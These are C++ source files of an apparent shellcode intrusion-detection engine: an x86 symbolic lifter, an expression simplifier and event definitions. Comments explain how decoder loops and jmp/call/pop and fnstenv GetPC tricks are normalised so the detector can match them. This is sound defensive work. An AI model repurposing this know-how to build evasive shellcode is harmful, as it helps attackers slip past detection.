                 bool is_call = false) {
  Event ev;
  ev.kind = EventKind::kBranch;
  ev.insn_index = idx;
  ev.insn_offset = insn.offset;
  ev.conditional = conditional;
  ev.is_call = is_call;
  ev.target = insn.branch_target();
  ev.backward = ev.target.has_value() && *ev.target <= insn.offset;
  m.events.push_back(std::move(ev));
}

}  // namespace

void lift(const std::vector<Instruction>& trace, LiftResult& out) {
  Machine m;
  // Reuse the caller's event buffer: the machine appends into it and
  // hands it back, so repeated lifts amortize the allocation.
  m.events = std::move(out.events);
  m.events.clear();

  for (std::size_t idx = 0; idx < trace.size(); ++idx) {
    const Instruction& insn = trace[idx];
    const auto& ops = insn.ops;
    m.set_insn(insn);

    if (auto op = alu_op(insn.mnemonic)) {
      ExprPtr res = mk_bin(*op, m.read_operand(ops[0]), m.read_operand(ops[1]));
      m.write_operand(ops[0], std::move(res), insn, idx);
      continue;
    }

    switch (insn.mnemonic) {
      case Mnemonic::kMov:
      case Mnemonic::kMovzx:
        // Sub-register reads are already zero-extended, so movzx is mov.
        m.write_operand(ops[0], m.read_operand(ops[1]), insn, idx);
        break;

      case Mnemonic::kMovsx:
        // Sign extension is representable but never load-bearing for our
        // templates; approximate.
        m.read_operand(ops[1]);
        m.write_operand(ops[0], m.fresh_unknown(), insn, idx);
        ++m.approximated;
        break;

      case Mnemonic::kLea:
        m.write_operand(ops[0], m.mem_addr(ops[1].mem), insn, idx);
        break;

      case Mnemonic::kXchg: {
        ExprPtr a = m.read_operand(ops[0]);
        ExprPtr b = m.read_operand(ops[1]);
        m.write_operand(ops[0], std::move(b), insn, idx);
        m.write_operand(ops[1], std::move(a), insn, idx);
        break;
      }

      case Mnemonic::kInc:
        m.write_operand(ops[0], mk_bin(BinOp::kAdd, m.read_operand(ops[0]), mk_const(1)),
                        insn, idx);
        break;
      case Mnemonic::kDec:
        m.write_operand(ops[0],
                        mk_bin(BinOp::kAdd, m.read_operand(ops[0]), mk_const(0xffffffffu)),
                        insn, idx);
        break;

      case Mnemonic::kNot:
        m.write_operand(ops[0], mk_un(UnOp::kNot, m.read_operand(ops[0])), insn, idx);
        break;
      case Mnemonic::kNeg:
        m.write_operand(ops[0], mk_un(UnOp::kNeg, m.read_operand(ops[0])), insn, idx);
        break;

      case Mnemonic::kImul:
        if (ops[2].kind != OperandKind::kNone) {
          m.write_operand(ops[0],
                          mk_bin(BinOp::kMul, m.read_operand(ops[1]), m.read_operand(ops[2])),
                          insn, idx);
        } else if (ops[1].kind != OperandKind::kNone) {
          m.write_operand(ops[0],
                          mk_bin(BinOp::kMul, m.read_operand(ops[0]), m.read_operand(ops[1])),
                          insn, idx);
        } else {
          m.clobber_reg(RegFamily::kAx, insn, idx);
          m.clobber_reg(RegFamily::kDx, insn, idx);
          ++m.approximated;
        }
        break;

      case Mnemonic::kMul:
      case Mnemonic::kDiv:
      case Mnemonic::kIdiv:
        m.clobber_reg(RegFamily::kAx, insn, idx);
        m.clobber_reg(RegFamily::kDx, insn, idx);
        ++m.approximated;
        break;

      case Mnemonic::kAdc:
      case Mnemonic::kSbb:
      case Mnemonic::kRcl:
      case Mnemonic::kRcr:
        // Carry-flag dependent: value unknown but the write is modeled.
        m.read_operand(ops[1]);
        m.write_operand(ops[0], m.fresh_unknown(), insn, idx);
        ++m.approximated;
        break;

      case Mnemonic::kCwde:
        m.clobber_reg(RegFamily::kAx, insn, idx);
        ++m.approximated;
        break;
      case Mnemonic::kCdq:
        m.clobber_reg(RegFamily::kDx, insn, idx);
        break;

      case Mnemonic::kPush:
        if (ops[0].kind == OperandKind::kNone) {
          m.push_value(m.fresh_unknown(), insn, idx);  // push seg-reg form
        } else {
          m.push_value(m.read_operand(ops[0]), insn, idx);
        }
        break;
      case Mnemonic::kPop: {
        ExprPtr v = m.pop_value();
        if (ops[0].kind != OperandKind::kNone) {
          m.write_operand(ops[0], std::move(v), insn, idx);
        }
        break;
      }
      case Mnemonic::kPushf:
        m.push_value(m.fresh_unknown(), insn, idx);
        break;
      case Mnemonic::kPopf:
        m.pop_value();
        break;
      case Mnemonic::kPusha:
        for (unsigned f = 0; f < 8; ++f) {
          m.push_value(m.reg_full(static_cast<RegFamily>(f)), insn, idx);
        }
        break;
      case Mnemonic::kPopa:
        for (unsigned f = 0; f < 8; ++f) {
          ExprPtr v = m.pop_value();
          RegFamily fam = static_cast<RegFamily>(7 - f);
          if (fam == RegFamily::kSp) continue;  // popa discards the saved esp
          m.write_reg(Reg{fam, RegWidth::k32}, std::move(v), insn, idx);
        }
        break;

      case Mnemonic::kLeave: {
        // mov esp, ebp ; pop ebp
        m.write_reg(Reg{RegFamily::kSp, RegWidth::k32}, m.reg_full(RegFamily::kBp), insn,
                    idx);
        ExprPtr v = m.pop_value();
        m.write_reg(Reg{RegFamily::kBp, RegWidth::k32}, std::move(v), insn, idx);
        break;
      }
      case Mnemonic::kEnter:
        m.push_value(m.reg_full(RegFamily::kBp), insn, idx);
        m.write_reg(Reg{RegFamily::kBp, RegWidth::k32}, m.reg_full(RegFamily::kSp), insn,
                    idx);
        m.clobber_reg(RegFamily::kSp, insn, idx);
        ++m.approximated;
        break;

      case Mnemonic::kCall:
        // The pushed return address is a known in-buffer constant: this is
        // precisely what makes jmp/call/pop GetPC sequences transparent to
        // the matcher (the pop receives a constant buffer offset).
        m.push_value(mk_const(static_cast<std::uint32_t>(insn.end_offset())), insn, idx);
        emit_branch(m, insn, idx, /*conditional=*/false, /*is_call=*/true);
        break;

      case Mnemonic::kRet:
      case Mnemonic::kRetf:
      case Mnemonic::kIret:
        m.pop_value();
        emit_branch(m, insn, idx, /*conditional=*/false);
        break;

      case Mnemonic::kJmp:
        emit_branch(m, insn, idx, /*conditional=*/false);
        break;
      case Mnemonic::kJcc:
      case Mnemonic::kJecxz:
        emit_branch(m, insn, idx, /*conditional=*/true);
        break;

      case Mnemonic::kLoop:
      case Mnemonic::kLoope:
      case Mnemonic::kLoopne:
        m.write_reg(Reg{RegFamily::kCx, RegWidth::k32},
                    mk_bin(BinOp::kAdd, m.reg_full(RegFamily::kCx), mk_const(0xffffffffu)),
                    insn, idx);
        emit_branch(m, insn, idx, /*conditional=*/true);
        break;

      case Mnemonic::kInt: {
        Event ev;
        ev.kind = EventKind::kSyscall;
        ev.insn_index = idx;
        ev.insn_offset = insn.offset;
        ev.vector = static_cast<std::uint8_t>(ops[0].imm);
        for (unsigned f = 0; f < 16; ++f) {
          ev.syscall_regs[f] = m.reg_full(static_cast<RegFamily>(f));
        }
        m.events.push_back(std::move(ev));
        // Linux convention: the kernel returns in eax.
        m.clobber_reg(RegFamily::kAx, insn, idx);
        break;
      }

      case Mnemonic::kSyscall: {
        // x86-64 `syscall`: same event shape as int 0x80, distinguished by
        // the out-of-range vector so 32-bit templates can never match it.
        Event ev;
        ev.kind = EventKind::kSyscall;
        ev.insn_index = idx;
        ev.insn_offset = insn.offset;
        ev.vector = kSyscallVector;
        for (unsigned f = 0; f < 16; ++f) {
          ev.syscall_regs[f] = m.reg_full(static_cast<RegFamily>(f));
        }
        m.events.push_back(std::move(ev));
        // Return value in rax; the instruction itself clobbers rcx (return
        // RIP) and r11 (saved rflags).
        m.clobber_reg(RegFamily::kAx, insn, idx);
        m.clobber_reg(RegFamily::kCx, insn, idx);
        m.clobber_reg(RegFamily::kR11, insn, idx);
        break;
      }

      // ------------------------------------------------------ string ops
      case Mnemonic::kStos: {
        const unsigned w = Machine::width_bits_of(insn.op_width);
        ExprPtr val = m.read_reg(Reg{RegFamily::kAx, insn.op_width});
        m.store(m.reg_full(RegFamily::kDi), w, std::move(val), insn, idx);
        m.write_reg(Reg{RegFamily::kDi, RegWidth::k32},
                    mk_bin(BinOp::kAdd, m.reg_full(RegFamily::kDi), mk_const(w / 8)), insn,
                    idx);
        if (insn.prefixes.rep || insn.prefixes.repne) {
          m.clobber_reg(RegFamily::kDi, insn, idx);
          m.clobber_reg(RegFamily::kCx, insn, idx);
          ++m.approximated;
        }
        break;
      }
      case Mnemonic::kLods: {
        const unsigned w = Machine::width_bits_of(insn.op_width);
        ExprPtr val = m.load(m.reg_full(RegFamily::kSi), w);
        m.write_reg(Reg{RegFamily::kAx,
                        insn.op_width == RegWidth::k32 ? RegWidth::k32
                        : insn.op_width == RegWidth::k16 ? RegWidth::k16 : RegWidth::k8Lo},
                    std::move(val), insn, idx);
        m.write_reg(Reg{RegFamily::kSi, RegWidth::k32},
                    mk_bin(BinOp::kAdd, m.reg_full(RegFamily::kSi), mk_const(w / 8)), insn,
                    idx);
        break;
      }
      case Mnemonic::kMovs: {
        const unsigned w = Machine::width_bits_of(insn.op_width);
        ExprPtr val = m.load(m.reg_full(RegFamily::kSi), w);
        m.store(m.reg_full(RegFamily::kDi), w, std::move(val), insn, idx);
        m.write_reg(Reg{RegFamily::kSi, RegWidth::k32},
                    mk_bin(BinOp::kAdd, m.reg_full(RegFamily::kSi), mk_const(w / 8)), insn,
                    idx);
        m.write_reg(Reg{RegFamily::kDi, RegWidth::k32},
                    mk_bin(BinOp::kAdd, m.reg_full(RegFamily::kDi), mk_const(w / 8)), insn,
                    idx);
        break;
      }
      case Mnemonic::kScas:
      case Mnemonic::kCmps: {
        const unsigned w = Machine::width_bits_of(insn.op_width);
        if (insn.mnemonic == Mnemonic::kCmps) {
          m.write_reg(Reg{RegFamily::kSi, RegWidth::k32},
                      mk_bin(BinOp::kAdd, m.reg_full(RegFamily::kSi), mk_const(w / 8)), insn,
                      idx);
        }
        m.write_reg(Reg{RegFamily::kDi, RegWidth::k32},
                    mk_bin(BinOp::kAdd, m.reg_full(RegFamily::kDi), mk_const(w / 8)), insn,
                    idx);
        break;
      }

      case Mnemonic::kXlat: {
        ExprPtr addr = mk_bin(BinOp::kAdd, m.reg_full(RegFamily::kBx),
                              m.read_reg(Reg{RegFamily::kAx, RegWidth::k8Lo}));
        m.write_reg(Reg{RegFamily::kAx, RegWidth::k8Lo}, m.load(addr, 8), insn, idx);
        break;
      }

      case Mnemonic::kSetcc:
      case Mnemonic::kSalc:
      case Mnemonic::kLahf:
        if (insn.mnemonic == Mnemonic::kSetcc) {
          m.write_operand(ops[0], m.fresh_unknown(), insn, idx);
        } else {
          m.write_reg(Reg{RegFamily::kAx,
                          insn.mnemonic == Mnemonic::kLahf ? RegWidth::k8Hi : RegWidth::k8Lo},
                      m.fresh_unknown(), insn, idx);
        }
        ++m.approximated;
        break;

      case Mnemonic::kCmov:
      case Mnemonic::kBswap:
      case Mnemonic::kShld:
      case Mnemonic::kShrd:
      case Mnemonic::kBts:
      case Mnemonic::kBtr:
      case Mnemonic::kBtc:
      case Mnemonic::kBsf:
      case Mnemonic::kBsr:
      case Mnemonic::kCmpxchg:
      case Mnemonic::kXadd:
        m.write_operand(ops[0], m.fresh_unknown(), insn, idx);
        ++m.approximated;
        break;

      case Mnemonic::kAaa:
      case Mnemonic::kAas:
      case Mnemonic::kDaa:
      case Mnemonic::kDas:
        m.write_reg(Reg{RegFamily::kAx, RegWidth::k16}, m.fresh_unknown(), insn, idx);
        ++m.approximated;
        break;

      case Mnemonic::kCpuid:
        m.clobber_reg(RegFamily::kAx, insn, idx);
        m.clobber_reg(RegFamily::kBx, insn, idx);
        m.clobber_reg(RegFamily::kCx, insn, idx);
        m.clobber_reg(RegFamily::kDx, insn, idx);
        ++m.approximated;
        break;
      case Mnemonic::kRdtsc:
        m.clobber_reg(RegFamily::kAx, insn, idx);
        m.clobber_reg(RegFamily::kDx, insn, idx);
        ++m.approximated;
        break;
      case Mnemonic::kIn:
        m.clobber_reg(RegFamily::kAx, insn, idx);
        ++m.approximated;
        break;

      case Mnemonic::kFpuNop:
        m.last_fpu_offset = insn.offset;
        break;
      case Mnemonic::kFnstenv: {
        // The 28-byte FPU environment: the semantically load-bearing field
        // is FIP at +12 — the address of the last FPU instruction. This is
        // what makes fnstenv-GetPC decoders transparent to the matcher,
        // exactly like call/pop.
        ExprPtr base = m.mem_addr(ops[0].mem);
        ExprPtr fip = m.last_fpu_offset
                          ? mk_const(static_cast<std::uint32_t>(*m.last_fpu_offset))
                          : m.fresh_unknown();
        m.store(mk_bin(BinOp::kAdd, base, mk_const(12)), 32, std::move(fip), insn, idx);
        break;
      }

      // Pure flag/hint instructions produce no event.
      case Mnemonic::kNop:
      case Mnemonic::kWait:
      case Mnemonic::kClc:
      case Mnemonic::kStc:
      case Mnemonic::kCmc:
      case Mnemonic::kCld:
      case Mnemonic::kStd:
      case Mnemonic::kCli:
      case Mnemonic::kSti:
      case Mnemonic::kCmp:
      case Mnemonic::kTest:
      case Mnemonic::kBt:
      case Mnemonic::kSahf:
      case Mnemonic::kOut:
      case Mnemonic::kInt3:
      case Mnemonic::kInto:
      case Mnemonic::kHlt:
      case Mnemonic::kInvalid:
        break;

      default:
        break;  // plain ALU mnemonics were dispatched via alu_op above
    }
  }

  out.events = std::move(m.events);
  out.approximated = m.approximated;
}

LiftResult lift(const std::vector<Instruction>& trace) {
  LiftResult out;
  lift(trace, out);
  return out;
}

}  // namespace senids::ir
