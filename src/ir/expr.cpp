#include "ir/expr.hpp"

#include <bit>
#include <cstdio>

namespace senids::ir {

namespace {

std::uint8_t bits_of_const(std::uint32_t v) noexcept {
  return static_cast<std::uint8_t>(32 - std::countl_zero(v));
}

/// Upper bound on significant bits of a (fresh) node's value.
std::uint8_t compute_value_bits(const Expr& e) noexcept {
  switch (e.kind) {
    case ExprKind::kConst:
      return bits_of_const(e.cval);
    case ExprKind::kLoad:
      return e.load_width;
    case ExprKind::kBin: {
      const std::uint8_t lb = e.lhs->value_bits;
      const std::uint8_t rb = e.rhs->value_bits;
      switch (e.bop) {
        case BinOp::kXor:
        case BinOp::kOr:
          return std::max(lb, rb);
        case BinOp::kAnd:
          return std::min(lb, rb);
        case BinOp::kAdd:
          return static_cast<std::uint8_t>(std::min<unsigned>(32, std::max(lb, rb) + 1));
        case BinOp::kMul:
          return static_cast<std::uint8_t>(std::min<unsigned>(32, lb + rb));
        case BinOp::kShl: {
          std::uint32_t sh;
          if (is_const(e.rhs, &sh)) {
            return static_cast<std::uint8_t>(std::min<unsigned>(32, lb + (sh & 31)));
          }
          return 32;
        }
        case BinOp::kShr: {
          std::uint32_t sh;
          if (is_const(e.rhs, &sh)) {
            const unsigned s = sh & 31;
            return static_cast<std::uint8_t>(lb > s ? lb - s : 0);
          }
          return 32;
        }
        default:
          return 32;  // sub/sar/rol/ror can wrap or smear bits
      }
    }
    case ExprKind::kInitReg:
    case ExprKind::kUn:
    case ExprKind::kUnknown:
      return 32;
  }
  return 32;
}

ExprPtr make_node(Expr e) {
  auto p = std::make_shared<Expr>(std::move(e));
  // Hash is computed bottom-up once; children are already hashed.
  p->cached_hash = recompute_hash(*p);
  p->value_bits = compute_value_bits(*p);
  return p;
}

std::uint32_t fold(BinOp op, std::uint32_t a, std::uint32_t b) noexcept {
  switch (op) {
    case BinOp::kAdd: return a + b;
    case BinOp::kSub: return a - b;
    case BinOp::kXor: return a ^ b;
    case BinOp::kOr: return a | b;
    case BinOp::kAnd: return a & b;
    case BinOp::kShl: return (b & 31) ? (a << (b & 31)) : a;
    case BinOp::kShr: return (b & 31) ? (a >> (b & 31)) : a;
    case BinOp::kSar:
      return (b & 31) ? static_cast<std::uint32_t>(static_cast<std::int32_t>(a) >> (b & 31))
                      : a;
    case BinOp::kRol: {
      unsigned s = b & 31;
      return s ? ((a << s) | (a >> (32 - s))) : a;
    }
    case BinOp::kRor: {
      unsigned s = b & 31;
      return s ? ((a >> s) | (a << (32 - s))) : a;
    }
    case BinOp::kMul: return a * b;
  }
  return 0;
}

bool commutative(BinOp op) noexcept {
  switch (op) {
    case BinOp::kAdd:
    case BinOp::kXor:
    case BinOp::kOr:
    case BinOp::kAnd:
    case BinOp::kMul:
      return true;
    default:
      return false;
  }
}

/// True when op is associative so (x op c1) op c2 folds to x op (c1 op c2).
bool const_chain_foldable(BinOp op) noexcept {
  switch (op) {
    case BinOp::kAdd:
    case BinOp::kXor:
    case BinOp::kOr:
    case BinOp::kAnd:
    case BinOp::kMul:
      return true;
    default:
      return false;
  }
}

}  // namespace

ExprPtr mk_const(std::uint32_t v) {
  Expr e;
  e.kind = ExprKind::kConst;
  e.cval = v;
  return make_node(std::move(e));
}

ExprPtr mk_init(arch::RegFamily f) {
  Expr e;
  e.kind = ExprKind::kInitReg;
  e.family = f;
  return make_node(std::move(e));
}

ExprPtr mk_load(ExprPtr addr, unsigned width_bits, std::uint32_t generation) {
  Expr e;
  e.kind = ExprKind::kLoad;
  e.addr = std::move(addr);
  e.load_width = static_cast<std::uint8_t>(width_bits);
  e.generation = generation;
  return make_node(std::move(e));
}

ExprPtr mk_unknown(std::uint32_t id) {
  Expr e;
  e.kind = ExprKind::kUnknown;
  e.unknown_id = id;
  return make_node(std::move(e));
}

bool is_const(const ExprPtr& e, std::uint32_t* value) noexcept {
  if (!e || e->kind != ExprKind::kConst) return false;
  if (value) *value = e->cval;
  return true;
}

ExprPtr mk_un(UnOp op, ExprPtr x) {
  std::uint32_t c;
  if (is_const(x, &c)) {
    return mk_const(op == UnOp::kNot ? ~c : 0u - c);
  }
  // not(not(x)) -> x ; neg(neg(x)) -> x
  if (x->kind == ExprKind::kUn && x->uop == op) return x->lhs;
  Expr e;
  e.kind = ExprKind::kUn;
  e.uop = op;
  e.lhs = std::move(x);
  return make_node(std::move(e));
}

ExprPtr mk_bin(BinOp op, ExprPtr l, ExprPtr r) {
  std::uint32_t cl, cr;
  const bool l_const = is_const(l, &cl);
  const bool r_const = is_const(r, &cr);
  if (l_const && r_const) return mk_const(fold(op, cl, cr));

  // Canonicalize: subtraction of a constant becomes addition of its
  // negation so `sub eax,-1`, `add eax,1` and `inc eax` all normalize to
  // Add(init(eax), 1).
  if (op == BinOp::kSub && r_const) return mk_bin(BinOp::kAdd, std::move(l), mk_const(0u - cr));

  // Commutative: keep the constant on the right.
  if (commutative(op) && l_const) {
    std::swap(l, r);
    std::swap(cl, cr);
    const bool t = l_const;
    (void)t;
  }
  const bool rc = is_const(r, &cr);

  if (rc) {
    // Identity and annihilator elements.
    switch (op) {
      case BinOp::kAdd:
      case BinOp::kXor:
      case BinOp::kOr:
        if (cr == 0) return l;
        if (op == BinOp::kOr && cr == 0xffffffffu) return mk_const(0xffffffffu);
        break;
      case BinOp::kAnd:
        if (cr == 0) return mk_const(0);
        if (cr == 0xffffffffu) return l;
        // Covering mask: if the mask has ones across every bit the value
        // can occupy, the AND is a no-op; if it has none there, the AND is
        // zero. Together these fold away the byte-access plumbing around
        // 8-bit loads and sub-register merges.
        if (l->value_bits < 32) {
          const std::uint32_t needed = (1u << l->value_bits) - 1;
          if ((cr & needed) == needed) return l;
          if ((cr & needed) == 0) return mk_const(0);
        }
        // Distribute a constant mask over OR: this collapses the
        // sub-register merge form Or(And(x, ~m), c) that reading e.g. BL
        // back out of EBX produces — And over the merge yields the
        // constant byte again.
        if (l->kind == ExprKind::kBin && l->bop == BinOp::kOr) {
          return mk_bin(BinOp::kOr, mk_bin(BinOp::kAnd, l->lhs, mk_const(cr)),
                        mk_bin(BinOp::kAnd, l->rhs, mk_const(cr)));
        }
        break;
      case BinOp::kShl:
      case BinOp::kShr:
      case BinOp::kSar:
      case BinOp::kRol:
      case BinOp::kRor:
        if ((cr & 31) == 0) return l;
        break;
      case BinOp::kMul:
        if (cr == 1) return l;
        if (cr == 0) return mk_const(0);
        break;
      default:
        break;
    }
    // Constant-chain folding: (x op c1) op c2 -> x op (c1 op c2).
    if (const_chain_foldable(op) && l->kind == ExprKind::kBin && l->bop == op) {
      std::uint32_t inner;
      if (is_const(l->rhs, &inner)) {
        return mk_bin(op, l->lhs, mk_const(fold(op, inner, cr)));
      }
    }
  }

  // x ^ x -> 0 ; x - x -> 0 ; x & x -> x ; x | x -> x
  if (struct_eq(l, r)) {
    switch (op) {
      case BinOp::kXor:
      case BinOp::kSub:
        return mk_const(0);
      case BinOp::kAnd:
      case BinOp::kOr:
        return l;
      default:
        break;
    }
  }

  // Canonical operand order for commutative ops with two non-constant
  // operands: order by hash so Xor(a,b) and Xor(b,a) unify.
  if (commutative(op) && !rc && l->cached_hash > r->cached_hash) std::swap(l, r);

  Expr e;
  e.kind = ExprKind::kBin;
  e.bop = op;
  e.lhs = std::move(l);
  e.rhs = std::move(r);
  return make_node(std::move(e));
}

bool struct_eq(const ExprPtr& a, const ExprPtr& b) noexcept {
  if (a.get() == b.get()) return true;
  if (!a || !b) return false;
  if (a->kind != b->kind || a->cached_hash != b->cached_hash) return false;
  switch (a->kind) {
    case ExprKind::kConst: return a->cval == b->cval;
    case ExprKind::kInitReg: return a->family == b->family;
    case ExprKind::kLoad:
      return a->load_width == b->load_width && a->generation == b->generation &&
             struct_eq(a->addr, b->addr);
    case ExprKind::kBin:
      return a->bop == b->bop && struct_eq(a->lhs, b->lhs) && struct_eq(a->rhs, b->rhs);
    case ExprKind::kUn:
      return a->uop == b->uop && struct_eq(a->lhs, b->lhs);
    case ExprKind::kUnknown:
      return a->unknown_id == b->unknown_id;
  }
  return false;
}

std::size_t expr_hash(const ExprPtr& e) noexcept {
  return e ? e->cached_hash : 0;
}

std::size_t recompute_hash(const Expr& e) noexcept {
  std::size_t h = static_cast<std::size_t>(e.kind) * 0x9e3779b97f4a7c15ULL;
  auto mix = [&h](std::size_t v) { h ^= v + 0x9e3779b97f4a7c15ULL + (h << 6) + (h >> 2); };
  auto child = [](const ExprPtr& c) { return c ? c->cached_hash : 0; };
  switch (e.kind) {
    case ExprKind::kConst: mix(e.cval); break;
    case ExprKind::kInitReg: mix(static_cast<std::size_t>(e.family)); break;
    case ExprKind::kLoad:
      mix(child(e.addr));
      mix(e.load_width);
      mix(e.generation);
      break;
    case ExprKind::kBin:
      mix(static_cast<std::size_t>(e.bop));
      mix(child(e.lhs));
      mix(child(e.rhs));
      break;
    case ExprKind::kUn:
      mix(static_cast<std::size_t>(e.uop));
      mix(child(e.lhs));
      break;
    case ExprKind::kUnknown: mix(e.unknown_id); break;
  }
  return h;
}

const char* binop_name(BinOp op) noexcept {
  switch (op) {
    case BinOp::kAdd: return "add";
    case BinOp::kSub: return "sub";
    case BinOp::kXor: return "xor";
    case BinOp::kOr: return "or";
    case BinOp::kAnd: return "and";
    case BinOp::kShl: return "shl";
    case BinOp::kShr: return "shr";
    case BinOp::kSar: return "sar";
    case BinOp::kRol: return "rol";
    case BinOp::kRor: return "ror";
    case BinOp::kMul: return "mul";
  }
  return "?";
}

std::string to_string(const ExprPtr& e) {
  if (!e) return "null";
  char buf[32];
  switch (e->kind) {
    case ExprKind::kConst:
      std::snprintf(buf, sizeof buf, "0x%x", e->cval);
      return buf;
    case ExprKind::kInitReg: {
      std::string out = "init(";
      out += arch::Reg{e->family, arch::RegWidth::k32}.name();
      out += ")";
      return out;
    }
    case ExprKind::kLoad: {
      std::snprintf(buf, sizeof buf, "load%u@%u(", e->load_width, e->generation);
      return buf + to_string(e->addr) + ")";
    }
    case ExprKind::kBin:
      return std::string(binop_name(e->bop)) + "(" + to_string(e->lhs) + ", " +
             to_string(e->rhs) + ")";
    case ExprKind::kUn:
      return std::string(e->uop == UnOp::kNot ? "not" : "neg") + "(" + to_string(e->lhs) + ")";
    case ExprKind::kUnknown:
      std::snprintf(buf, sizeof buf, "unk%u", e->unknown_id);
      return buf;
  }
  return "?";
}

}  // namespace senids::ir
