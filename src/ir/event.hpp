// Semantic events: the lifter reduces an instruction trace to the
// sequence of architecturally visible effects, each expressed over the
// symbolic domain. Templates match against this stream — never against
// instruction syntax — which is the core idea of semantics-aware
// detection.
#pragma once

#include <array>
#include <cstdint>
#include <optional>
#include <vector>

#include "ir/expr.hpp"
#include "x86/insn.hpp"

namespace senids::ir {

enum class EventKind : std::uint8_t {
  kRegWrite,   // register family := value
  kMemWrite,   // mem[addr] := value (width bits)
  kBranch,     // control transfer (conditional or not)
  kSyscall,    // int N with captured register state
};

struct Event {
  EventKind kind{};
  std::size_t insn_index = 0;   // index into the lifted trace
  std::size_t insn_offset = 0;  // byte offset of the originating instruction

  // kRegWrite
  x86::RegFamily reg{};
  ExprPtr value;                // also the stored value for kMemWrite

  // kMemWrite
  ExprPtr addr;
  std::uint8_t width = 32;      // bits

  // kBranch
  bool conditional = false;
  bool backward = false;        // static target at or before this instruction
  std::optional<std::size_t> target;  // static target (buffer offset)
  bool is_call = false;

  // kSyscall
  std::uint8_t vector = 0;      // int imm8 (0x80 for Linux syscalls)
  /// eax..edi register expressions at the syscall, indexed by RegFamily.
  std::array<ExprPtr, 8> syscall_regs;
};

}  // namespace senids::ir
