// Semantic events: the lifter reduces an instruction trace to the
// sequence of architecturally visible effects, each expressed over the
// symbolic domain. Templates match against this stream — never against
// instruction syntax — which is the core idea of semantics-aware
// detection.
#pragma once

#include <array>
#include <cstdint>
#include <optional>
#include <vector>

#include "ir/expr.hpp"
#include "arch/insn.hpp"

namespace senids::ir {

/// Event::vector value for the x86-64 `syscall` instruction — outside
/// the 0..255 int-vector space so it can never collide with an int imm8.
inline constexpr std::uint16_t kSyscallVector = 0x100;

enum class EventKind : std::uint8_t {
  kRegWrite,   // register family := value
  kMemWrite,   // mem[addr] := value (width bits)
  kBranch,     // control transfer (conditional or not)
  kSyscall,    // int N with captured register state
};

struct Event {
  EventKind kind{};
  std::size_t insn_index = 0;   // index into the lifted trace
  std::size_t insn_offset = 0;  // byte offset of the originating instruction

  // kRegWrite
  arch::RegFamily reg{};
  ExprPtr value;                // also the stored value for kMemWrite

  // kMemWrite
  ExprPtr addr;
  std::uint8_t width = 32;      // bits (64 for qword stores; the value
                                // expression still models the low 32 bits)

  // kBranch
  bool conditional = false;
  bool backward = false;        // static target at or before this instruction
  std::optional<std::size_t> target;  // static target (buffer offset)
  bool is_call = false;

  // kSyscall
  /// Syscall mechanism: the int imm8 vector (0x80 for 32-bit Linux), or
  /// kSyscallVector for the x86-64 `syscall` instruction.
  std::uint16_t vector = 0;
  /// Register expressions at the syscall, indexed by RegFamily (rax..r15;
  /// 32-bit traces populate only the first eight).
  std::array<ExprPtr, 16> syscall_regs;
};

}  // namespace senids::ir
