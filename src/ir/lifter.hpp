// Symbolic executor: runs a decoded execution-order trace over the
// expression domain and emits the event stream. One pass through the
// trace corresponds to one unrolling of any loop; that is sufficient
// because the templates describe per-iteration behaviour plus the
// loop-back edge.
#pragma once

#include <vector>

#include "ir/event.hpp"
#include "arch/defuse.hpp"

namespace senids::ir {

struct LiftResult {
  std::vector<Event> events;
  /// Instructions whose semantics the lifter models only through def/use
  /// clobbers (diagnostic counter; high ratios indicate data, not code).
  std::size_t approximated = 0;
};

/// Lift `trace` (from arch::execution_trace or linear_sweep).
LiftResult lift(const std::vector<arch::Instruction>& trace);

/// Buffer-reusing form: `out.events` is cleared and refilled in place,
/// so a worker lifting thousands of traces reuses one event buffer
/// instead of reallocating per trace (the expression nodes themselves
/// are shared/ref-counted and not arena-managed).
void lift(const std::vector<arch::Instruction>& trace, LiftResult& out);

}  // namespace senids::ir
