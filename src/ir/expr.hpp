// Symbolic value expressions. The lifter executes an instruction trace
// over these instead of concrete values; constant folding and algebraic
// normalization mean that syntactically different code computing the same
// value produces the *same* expression tree. This is what lets one
// template match `xor byte ptr [eax], 95h` and
// `mov ebx,31h; add ebx,64h; xor byte ptr [eax], bl` — both store
// Xor(Load(init_eax), 0x95).
//
// All expressions are 32-bit values (IA-32 native width); narrow loads
// and sub-register reads are represented zero-extended with explicit
// masks, which the simplifier folds away whenever operands are constant.
#pragma once

#include <cstdint>
#include <memory>
#include <string>

#include "arch/reg.hpp"

namespace senids::ir {

enum class ExprKind : std::uint8_t { kConst, kInitReg, kLoad, kBin, kUn, kUnknown };

enum class BinOp : std::uint8_t {
  kAdd, kSub, kXor, kOr, kAnd, kShl, kShr, kSar, kRol, kRor, kMul
};

enum class UnOp : std::uint8_t { kNot, kNeg };

struct Expr;
using ExprPtr = std::shared_ptr<const Expr>;

/// Immutable expression node. Build only through the mk_* factories,
/// which enforce normalization invariants (constants folded, commutative
/// operands ordered, identities removed).
struct Expr {
  ExprKind kind;
  // kConst
  std::uint32_t cval = 0;
  // kInitReg
  arch::RegFamily family{};
  // kLoad
  ExprPtr addr;
  std::uint8_t load_width = 32;   // bits
  std::uint32_t generation = 0;   // memory version at load time
  // kBin / kUn
  BinOp bop{};
  UnOp uop{};
  ExprPtr lhs, rhs;
  // kUnknown
  std::uint32_t unknown_id = 0;

  std::size_t cached_hash = 0;
  /// Upper bound on the number of significant bits of the value
  /// (e.g. an 8-bit load has value_bits == 8 even before masking). Used
  /// by the simplifier to drop covering masks: And(x, m) == x whenever m
  /// covers value_bits(x) bits.
  std::uint8_t value_bits = 32;
};

// ------------------------------------------------------------- factories

ExprPtr mk_const(std::uint32_t v);
ExprPtr mk_init(arch::RegFamily f);
ExprPtr mk_load(ExprPtr addr, unsigned width_bits, std::uint32_t generation);
ExprPtr mk_bin(BinOp op, ExprPtr l, ExprPtr r);
ExprPtr mk_un(UnOp op, ExprPtr x);
ExprPtr mk_unknown(std::uint32_t id);

// ------------------------------------------------------------- utilities

/// Structural equality (normalization makes it a sound semantic-equality
/// approximation: equal trees compute equal values).
bool struct_eq(const ExprPtr& a, const ExprPtr& b) noexcept;

/// Structural hash consistent with struct_eq.
std::size_t expr_hash(const ExprPtr& e) noexcept;

/// Recompute a node's hash from its (already-hashed) children, ignoring
/// the cached value. The factories cache this at construction; the
/// verifier re-derives it to catch corrupted or hand-built nodes whose
/// stale cache would defeat struct_eq's fast-path rejection (two equal
/// trees comparing unequal is a silent missed detection). Null children
/// hash as 0 so malformed nodes can still be reported, not crashed on.
std::size_t recompute_hash(const Expr& e) noexcept;

/// nullptr-safe constant test; returns the value when e is a constant.
